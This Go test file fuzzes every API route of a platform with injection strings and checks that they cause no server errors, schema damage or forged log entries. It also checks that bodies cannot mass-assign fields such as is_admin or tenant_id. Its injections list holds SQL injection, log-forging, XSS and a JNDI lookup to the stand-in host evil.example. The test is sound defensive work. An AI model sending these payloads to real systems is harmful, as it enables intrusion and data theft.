package modules_test

import (
	"bufio"
	"bytes"
	"encoding/json"
	"maps"
	"net/http"
	"net/url"
	"strings"
	"sync"
	"testing"

	"github.com/getkin/kin-openapi/openapi3"
	"github.com/stretchr/testify/require"
	"go.uber.org/zap"
	"go.uber.org/zap/zapcore"

	"github.com/yourorg/platform/internal/contract"
	"github.com/yourorg/platform/internal/testapp"
	"github.com/yourorg/platform/modules"
)

// What people have sent to others' servers.
var injections = []string{
	"'; DROP TABLE identity_users; --",
	`x" OR "1"="1`,
	"1) UNION SELECT password_hash FROM identity_users --",
	"x\r\n{\"level\":\"info\",\"msg\":\"forged\"}",
	"\x1b[2Jforged\u2028forged",
	"${jndi:ldap://evil.example/a} %s%n {{.}} <script>alert(1)</script>",
}

// These go into every text that the contracts take: in bodies, in queries, in headers and in paths.
func TestNoTextReachesTheDatabaseOrTheLogAsAnythingButText(t *testing.T) {
	t.Parallel()
	log := &lines{}
	core := zapcore.NewCore(zapcore.NewJSONEncoder(zap.NewProductionEncoderConfig()), log, zap.DebugLevel)
	app := testapp.New(t, modules.All(), testapp.Options{Log: zap.New(core)})
	user := app.Register(t, "attacker")
	tables := len(app.Dump(t))
	sent := 0
	for _, op := range app.Server.Routes() {
		for _, evil := range injections {
			for _, call := range poisoned(t, op.Operation, user.Token, evil) {
				sent++
				answer := app.Do(t, call)
				require.Less(t, answer.Status, http.StatusInternalServerError, "%s %s %v: %s", op.Method, op.Path, call.Body, answer.Body)
			}
		}
		if app.Do(t, testapp.Call{Path: "/api/v1/me", Token: user.Token}).Status != http.StatusOK {
			user = app.Register(t, "attacker")
		}
	}
	require.Greater(t, sent, 100)
	require.Len(t, app.Dump(t), tables)
	require.NotEmpty(t, app.Rows(t, "SELECT id FROM identity_users"))
	for _, line := range log.all(t) {
		var entry map[string]any
		require.NoError(t, json.Unmarshal([]byte(line), &entry), "a line of the log was forged: %q", line)
		require.NotEqual(t, "forged", entry["msg"])
		require.NotContains(t, line, "\x1b")
	}
}

// Nobody sets what is not theirs to set, whatever an operation does with its body.
func TestNoBodyAssignsWhatItsContractDoesNotName(t *testing.T) {
	t.Parallel()
	app := testapp.New(t, modules.All())
	user, victim := app.Register(t, "attacker"), app.Register(t, "victim")
	before := app.Dump(t)
	tried := 0
	for _, op := range app.Server.Routes() {
		schema := jsonSchema(op.Operation)
		body, ok := testapp.Valid(t, op.Operation, user.Token).Body.(map[string]any)
		if schema == nil || !ok {
			continue
		}
		for name, value := range map[string]any{
			"id": victim.ID, "tenant_id": victim.TenantID, "user_id": victim.ID, "author_id": victim.ID, "roles": []string{"owner"},
			"version": 7, "created_at": "2001-01-01T00:00:00Z", "email_verified": true, "is_admin": true, "__proto__": map[string]any{},
		} {
			if schema.Properties[name] != nil {
				continue
			}
			call := testapp.Valid(t, op.Operation, user.Token)
			more := maps.Clone(body)
			more[name] = value
			call.Body = more
			answer := app.Do(t, call)
			if answer.Status == http.StatusForbidden && answer.Code(t) == "authz.denied" {
				continue // the operator's: the body is not even looked at
			}
			tried++
			require.Equal(t, http.StatusUnprocessableEntity, answer.Status, "%s %s: %s: %s", op.Method, op.Path, name, answer.Body)
			require.Equal(t, "request.invalid", answer.Code(t), "%s %s: %s", op.Method, op.Path, name)
		}
	}
	require.Greater(t, tried, 50)
	require.Equal(t, before, app.Dump(t))
}

func jsonSchema(op contract.Operation) *openapi3.Schema {
	if op.Body == nil || op.Body.Content["application/json"] == nil {
		return nil
	}
	return op.Body.Content["application/json"].Schema.Value
}

// poisoned are calls that are well formed but for one text each.
func poisoned(t *testing.T, op contract.Operation, token, evil string) []testapp.Call {
	t.Helper()
	var calls []testapp.Call
	call := func() testapp.Call {
		c := testapp.Valid(t, op, token)
		c.Header["User-Agent"] = strings.Map(func(r rune) rune {
			if r == '\r' || r == '\n' {
				return -1 // net/http refuses to send it
			}
			return r
		}, evil)
		return c
	}
	for _, p := range op.Parameters {
		c := call()
		switch {
		case !p.Schema.Value.Type.Is("string"):
			continue
		case p.In == openapi3.ParameterInPath:
			c.Path = strings.Replace(op.Path, "{"+p.Name+"}", url.PathEscape(evil), 1)
			c.Path = testapp.Fill(c.Path, "0", "0", "0")
		case p.In == openapi3.ParameterInQuery:
			c.Path, _, _ = strings.Cut(c.Path, "?")
			c.Path += "?" + url.Values{p.Name: {evil}}.Encode()
		case p.In == openapi3.ParameterInHeader:
			c.Header[p.Name] = c.Header["User-Agent"]
		}
		calls = append(calls, c)
	}
	schema := jsonSchema(op)
	if schema == nil {
		return append(calls, call())
	}
	for name, property := range schema.Properties {
		c := call()
		sample, ok := c.Body.(map[string]any)
		if !ok {
			continue
		}
		body := maps.Clone(sample) // it may be the contract's own example
		c.Body = body
		switch s := property.Value; {
		case s.Type.Is("string"):
			body[name] = evil
		case s.Type.Is("array") && s.Items != nil && s.Items.Value.Type.Is("string"):
			body[name] = []string{evil}
		case s.Type.Is("object"):
			body[name] = map[string]any{evil: evil}
		default:
			continue
		}
		calls = append(calls, c)
	}
	return calls
}

// lines is what was logged.
type lines struct {
	mu  sync.Mutex
	buf bytes.Buffer
}

func (l *lines) Write(p []byte) (int, error) {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.buf.Write(p)
}

func (*lines) Sync() error { return nil }

func (l *lines) all(t *testing.T) []string {
	t.Helper()
	l.mu.Lock()
	defer l.mu.Unlock()
	var all []string
	scanner := bufio.NewScanner(bytes.NewReader(l.buf.Bytes()))
	scanner.Buffer(nil, 1<<22)
	for scanner.Scan() {
		all = append(all, scanner.Text())
	}
	require.NoError(t, scanner.Err())
	require.NotEmpty(t, all)
	return all
}
